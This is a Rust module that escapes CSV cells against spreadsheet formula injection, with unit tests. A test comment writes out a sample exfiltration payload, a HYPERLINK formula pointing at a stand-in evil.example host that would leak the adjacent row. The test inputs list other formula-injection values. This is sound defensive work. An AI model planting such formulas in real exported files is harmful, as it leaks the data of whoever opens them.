//! What was found, for people, for spreadsheets and for programs.

pub mod access;
pub mod cases;
pub mod diff;

use std::fmt::Write as _;

/// A cell of comma-separated values ([RFC 4180](https://www.rfc-editor.org/rfc/rfc4180)), in quotes where
/// that is needed. What a spreadsheet would take for a formula gets an apostrophe before it: a cell that
/// begins with `=`, `+`, `-` or `@`, behind whatever blanks.
fn cell(text: &str, line: &mut String) {
    let begins = text.trim_start_matches([' ', '\t', '\r', '\n', '\u{a0}', '\u{feff}']);
    // Spreadsheets take the wide forms for the same.
    let formula = begins
        .starts_with(['=', '+', '-', '@', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}'])
        || text.starts_with(['\t', '\r', '\n']);
    let guard = if formula { "'" } else { "" };
    if text.contains(['"', ',', '\r', '\n']) {
        // Writing to a text does not fail.
        write!(line, "\"{guard}{}\"", text.replace('"', "\"\"")).ok();
    } else {
        line.push_str(guard);
        line.push_str(text);
    }
}

/// A line of them.
fn line<'t>(cells: impl IntoIterator<Item = &'t str>) -> String {
    let mut line = String::new();
    for (at, text) in cells.into_iter().enumerate() {
        if at > 0 {
            line.push(',');
        }
        cell(text, &mut line);
    }
    line.push_str("\r\n");
    line
}

#[cfg(test)]
mod tests {
    use super::*;

    /// mallory calls an offer `=HYPERLINK("http://evil.example/?"&A1)` in its @why: whoever opens the
    /// quarterly review in a spreadsheet would send the row beside it to her.
    #[test]
    fn no_cell_is_a_formula() {
        for (text, wanted) in [
            ("plain", "plain"),
            ("a,b", "\"a,b\""),
            ("say \"no\"", "\"say \"\"no\"\"\""),
            ("=1+1", "'=1+1"),
            ("=HYPERLINK(\"x\"&A1)", "\"'=HYPERLINK(\"\"x\"\"&A1)\""),
            ("+1", "'+1"),
            ("-1", "'-1"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("  =1", "'  =1"),
            ("\t=1", "'\t=1"),
            ("\r\n=1", "\"'\r\n=1\""),
            ("\u{ff1d}1", "'\u{ff1d}1"),
            ("two\nlines", "\"two\nlines\""),
        ] {
            let mut said = String::new();
            cell(text, &mut said);
            assert_eq!(said, wanted);
        }
        assert_eq!(line(["a", "b,c", ""]), "a,\"b,c\",\r\n");
    }
}
